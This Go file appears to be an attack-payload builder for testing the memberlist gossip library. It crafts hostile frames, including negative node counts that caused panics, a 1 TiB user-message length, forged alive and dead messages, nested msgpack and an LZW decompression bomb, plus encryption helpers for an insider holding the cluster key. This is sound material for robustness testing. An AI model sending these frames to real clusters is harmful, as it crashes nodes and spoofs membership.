package attack

import (
	"bytes"
	"crypto/aes"
	"crypto/cipher"
	"crypto/rand"
	"encoding/binary"
	"net"
)

// memberlist's wire format, written out by hand so each hostile frame reads
// byte for byte. From memberlist v0.7.0 net.go, label.go and security.go:
//
//	stream (TCP): [label header] msgType msgpack...
//	packet (UDP): [label header] ([encryption] | msgType msgpack...)
//	label header: 244, len(label), label   (only when a label is set)
//
// A pushPullMsg stream carries a pushPullHeader {Nodes, UserStateLen, Join},
// then Nodes pushNodeState maps, then UserStateLen raw bytes. A userMsg
// stream carries a userMsgHeader {UserMsgLen}, then that many bytes. A
// compressMsg carries a compress {Algo, Buf}; Buf is LZW (LSB order, 8-bit
// literals) of another message, type byte first. Structs are msgpack maps
// keyed by field name.
const (
	Alive    = 4
	Dead     = 5
	PushPull = 6
	Compound = 7
	User     = 8
	Compress = 9
	Encrypt  = 10
	HasCRC   = 12
	Label    = 244
)

// MP appends msgpack values.
type MP []byte

// Fixmap starts a map of n entries.
func (b MP) Fixmap(n int) MP { return append(b, 0x80|byte(n)) }

// Str appends a string of fewer than 256 bytes.
func (b MP) Str(s string) MP {
	if len(s) < 32 {
		b = append(b, 0xa0|byte(len(s)))
	} else {
		b = append(b, 0xd9, byte(len(s)))
	}
	return append(b, s...)
}

// Int writes v in the shortest form for small values and as int64 otherwise.
func (b MP) Int(v int64) MP {
	if v >= -32 && v < 128 {
		return append(b, byte(v)) // positive or negative fixint
	}
	return binary.BigEndian.AppendUint64(append(b, 0xd3), uint64(v))
}

// Uint32 appends v as a uint32.
func (b MP) Uint32(v uint32) MP { return binary.BigEndian.AppendUint32(append(b, 0xce), v) }

// Uint16 appends v as a uint16.
func (b MP) Uint16(v uint16) MP { return binary.BigEndian.AppendUint16(append(b, 0xcd), v) }

// Bool appends v.
func (b MP) Bool(v bool) MP {
	if v {
		return append(b, 0xc3)
	}
	return append(b, 0xc2)
}

// Bin appends p as bin32.
func (b MP) Bin(p []byte) MP {
	b = binary.BigEndian.AppendUint32(append(b, 0xc6), uint32(len(p)))
	return append(b, p...)
}

// Labeled prefixes msg with memberlist's label header when label is set.
func Labeled(label string, msg []byte) []byte {
	if label == "" {
		return msg
	}
	return append(append([]byte{Label, byte(len(label))}, label...), msg...)
}

// PushPullHeader is the 29-byte (unlabeled) frame that declares nodes node
// states and no user state. memberlist v0.5.4 panicked on nodes = -1
// (makeslice: len out of range).
func PushPullHeader(nodes int64) []byte {
	return MP{PushPull}.Fixmap(3).
		Str("Nodes").Int(nodes).
		Str("UserStateLen").Int(0).
		Str("Join").Bool(false)
}

// UserMsgHeader is the 22-byte frame that declares a user message of n
// bytes. memberlist v0.5.4 allocated n at once: 1 TiB killed the process.
func UserMsgHeader(n int64) []byte {
	return MP{User}.Fixmap(1).Str("UserMsgLen").Int(n)
}

// AliveMsg claims that node is alive at addr with meta and incarnation.
func AliveMsg(node string, addr *net.UDPAddr, incarnation uint32, meta []byte) []byte {
	return MP{Alive}.Fixmap(6).
		Str("Incarnation").Uint32(incarnation).
		Str("Node").Str(node).
		Str("Addr").Bin(addr.IP.To4()).
		Str("Port").Uint16(uint16(addr.Port)).
		Str("Meta").Bin(meta).
		Str("Vsn").Bin([]byte{1, 5, 2, 0, 0, 0})
}

// DeadMsg claims that from saw node die at incarnation.
func DeadMsg(node, from string, incarnation uint32) []byte {
	return MP{Dead}.Fixmap(3).
		Str("Incarnation").Uint32(incarnation).
		Str("Node").Str(node).
		Str("From").Str(from)
}

// Compressed wraps an LZW stream as a compressMsg.
func Compressed(lzw []byte) []byte {
	return MP{Compress}.Fixmap(2).Str("Algo").Int(0).Str("Buf").Bin(lzw)
}

// Deep is message type typ followed by n nested one-element msgpack arrays.
func Deep(typ byte, n int) []byte {
	return append([]byte{typ}, bytes.Repeat([]byte{0x91}, n)...)
}

// LZWZeros is an LZW stream (LSB, 8-bit literals, as memberlist decodes it)
// of about 1340 zero bytes per byte of stream, cycles times over: after each
// clear code it sends literal 0, then codes 258, 259, ... 4095, each the
// previous string plus one more zero, which is how the decoder grows its
// table. It is built directly rather than by compressing gigabytes. 37
// cycles are the 198 KB bomb of 273 MB of zeros; memberlist v0.5.4
// grew by about 1 GB decoding it.
func LZWZeros(cycles int) []byte {
	const clear, eof, maxWidth = 256, 257, 12
	var out []byte
	var acc uint64
	var nbits uint
	put := func(code, width uint) {
		acc |= uint64(code) << nbits
		nbits += width
		for nbits >= 8 {
			out = append(out, byte(acc))
			acc >>= 8
			nbits -= 8
		}
	}
	width := uint(9)
	for range cycles {
		put(clear, width)
		width = 9
		hi := uint(eof)
		// Mirror the decoder: after each code hi grows by one, and the
		// width grows when hi reaches 1<<width, up to 12 bits.
		for code := uint(0); ; {
			put(code, width)
			hi++
			if hi >= 1<<width {
				if width == maxWidth {
					break // table full: the next code must be a clear
				}
				width++
			}
			if code == 0 {
				code = eof + 1
			} else {
				code++
			}
		}
	}
	put(eof, width)
	if nbits > 0 {
		out = append(out, byte(acc))
	}
	return out
}

// seal is memberlist's encryptPayload at encryption version 1 (protocol
// versions 3 and up): version byte, 12-byte nonce, AES-GCM sealed msg with
// ad as additional data.
func seal(key, msg, ad []byte) []byte {
	block, err := aes.NewCipher(key)
	if err != nil {
		panic("attack: " + err.Error()) // keys come from the test itself
	}
	gcm, err := cipher.NewGCM(block)
	if err != nil {
		panic("attack: " + err.Error())
	}
	out := make([]byte, 1+gcm.NonceSize(), 1+gcm.NonceSize()+len(msg)+gcm.Overhead())
	out[0] = 1
	rand.Read(out[1:])
	return gcm.Seal(out, out[1:], msg, ad)
}

// EncryptedStream is msg (type byte first) as a labeled stream that a node
// holding key decrypts: encryptMsg, the sealed length, then msg sealed with
// the type, length and label as additional data. This is how an insider (a
// node with the mesh's key) reaches the decoders behind the decrypt check.
func EncryptedStream(key []byte, label string, msg []byte) []byte {
	const overhead = 1 + 12 + 16 // version, nonce, tag
	hdr := binary.BigEndian.AppendUint32([]byte{Encrypt}, uint32(len(msg)+overhead))
	ad := append(append([]byte(nil), hdr...), label...)
	return Labeled(label, append(hdr, seal(key, msg, ad)...))
}

// EncryptedPacket is msg as a labeled packet that a node holding key
// decrypts: the label is the additional data.
func EncryptedPacket(key []byte, label string, msg []byte) []byte {
	return Labeled(label, seal(key, msg, []byte(label)))
}
